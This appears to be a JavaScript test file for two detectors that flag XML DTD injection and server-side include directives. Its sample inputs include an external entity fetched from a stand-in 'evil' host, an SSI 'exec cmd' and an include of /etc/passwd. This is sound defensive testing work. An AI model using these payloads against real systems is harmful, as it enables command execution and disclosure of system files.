import { findDtdInjection, findServerSideInclude } from './xml-rules.js';

describe('findDtdInjection', () => {
  it.each([
    '<!DOCTYPE r [ <!ENTITY % x SYSTEM "http://evil/x.dtd"> %x; ]>',
    'foo!ENTITY % bar SYSTEM',
    '<!DOCTYPE x [ <!ATTLIST img onerror CDATA "alert(1)"> ]>',
    '<!DOCTYPE x SYSTEM "test.dtd"><x/>',
  ])('flags %j', (input) => {
    expect(findDtdInjection(input)).not.toBeNull();
  });

  it.each(['<!DOCTYPE html>', '<!DOCTYPE html SYSTEM "about:legacy-compat">', 'an entity system in prose', '<!ENTITY x "y">'])(
    'leaves %j alone',
    (input) => {
      expect(findDtdInjection(input)).toBeNull();
    },
  );
});

describe('findServerSideInclude', () => {
  it.each(['<!--#exec cmd="id"-->', '"--><!--#set var="a" value="b"-->', '<!--#INCLUDE virtual="/etc/passwd"-->'])('flags %j', (input) => {
    expect(findServerSideInclude(input)).not.toBeNull();
  });

  it.each(['<!-- #exec is a directive -->', '<!--#region-->', 'plain text'])('leaves %j alone', (input) => {
    expect(findServerSideInclude(input)).toBeNull();
  });
});
